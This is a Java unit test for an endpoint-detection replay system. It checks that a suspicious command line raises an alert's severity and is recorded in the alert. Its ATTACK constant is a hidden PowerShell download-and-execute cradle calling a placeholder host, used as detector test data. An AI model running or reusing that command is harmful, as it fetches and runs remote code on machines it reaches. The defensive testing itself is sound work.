package seldom.analytics.replay;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import seldom.analytics.content.ShippedContent;
import seldom.analytics.detector.Detectors;
import seldom.model.alert.Alert;
import seldom.model.alert.Severity;
import seldom.model.command.Band;
import seldom.model.command.ScoredCommand;
import seldom.model.event.EndpointEvent;
import seldom.model.event.Image;

/// What a command line adds to an alert.
class CommandAlertTest {
  private static final Detectors DETECTORS = Detectors.load(ShippedContent.texts());
  private static final Image EXPLORER =
      Fleet.signed("C:\\Windows\\explorer.exe", "Microsoft Windows");
  private static final Image TOOL = Fleet.signed("C:\\Program Files\\Acme\\tool.exe", "Acme Ltd");
  private static final Image CHILD = Fleet.signed("C:\\Program Files\\Acme\\help.exe", "Acme Ltd");
  private static final Image NEW = Fleet.signed("C:\\Program Files\\Acme\\report.exe", "Acme Ltd");
  private static final LocalDate DAY = Fleet.FIRST.plusDays(20);
  private static final String HARMLESS = "report.exe --monthly";
  private static final String ATTACK =
      "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example.com/x')\"";

  private final Fleet fleet = new Fleet();
  private Replay replay = Replay.start(DETECTORS, Options.NONE);

  @BeforeEach
  void learn() {
    replay = Replay.start(DETECTORS, Options.NONE);
    for (int d = 0; d < 20; d++) {
      LocalDate day = Fleet.FIRST.plusDays(d);
      replay.day(day, Fleet.inOrder(calm(day)), List.of(), List.of(), HistorySink.NONE);
    }
  }

  private List<EndpointEvent> calm(LocalDate day) {
    List<EndpointEvent> events = new ArrayList<>();
    for (int h = 0; h < 40; h++) {
      String host = "h%02d".formatted(h);
      events.add(fleet.launch("t" + h % 2, host, day, 100 + h, EXPLORER, TOOL));
      events.add(fleet.launch("t" + h % 2, host, day, 200 + h, TOOL, CHILD));
    }
    return events;
  }

  /// The alert of a day on which one host starts the new child with these command lines.
  private Alert alert(String... lines) {
    List<EndpointEvent> events = calm(DAY);
    for (int i = 0; i < lines.length; i++) {
      events.add(fleet.launch("t1", "h07", DAY, 3000 + i, TOOL, NEW, lines[i]));
    }
    List<Alert> alerts =
        replay
            .day(DAY, Fleet.inOrder(events), List.of(), List.of(), HistorySink.NONE)
            .alerts()
            .stream()
            .filter(a -> a.target().text().equals("report.exe"))
            .toList();
    assertThat(alerts).hasSize(1);
    return alerts.getFirst();
  }

  private static ScoredCommand command(Alert alert) {
    ScoredCommand command = alert.command();
    if (command == null) {
      throw new AssertionError("the alert kept no analysis");
    }
    return command;
  }

  @Test
  void aHarmlessCommandLineChangesNothing() {
    Alert a = alert(HARMLESS);
    assertThat(a.severity()).isLessThan(Severity.MEDIUM);
    assertThat(command(a).band()).isEqualTo(Band.LOW);
    assertThat(command(a).commandLine()).isEqualTo(HARMLESS);
    assertThat(a.history()).isEmpty();
  }

  @Test
  void aHighBandLiftsTheAlertToMediumAndSaysSo() {
    Alert a = alert(ATTACK);
    assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(command(a).band().atLeast(Band.HIGH)).isTrue();
    assertThat(command(a).findings()).isNotEmpty();
    assertThat(a.history()).anyMatch(h -> h.startsWith("Raised from ") && h.contains("medium"));
  }

  @Test
  void ofRepeatsTheWorstCountsEvenAmongManyOthers() {
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < 200; i++) {
      lines.add("a%03d.exe --monthly".formatted(i));
    }
    lines.add(ATTACK);
    Alert a = alert(lines.toArray(String[]::new));
    assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(command(a).commandLine()).isEqualTo(ATTACK);
    assertThat(a.commandLines()).hasSize(20).doesNotContain(ATTACK);
  }

  @Test
  void theOrderOfRepeatsDoesNotMatter() {
    Alert a = alert(HARMLESS, ATTACK);
    learn();
    Alert b = alert(ATTACK, HARMLESS);
    assertThat(b.command()).isEqualTo(a.command());
    assertThat(b.severity()).isEqualTo(a.severity());
    assertThat(b.commandLines()).isEqualTo(a.commandLines());
  }
}
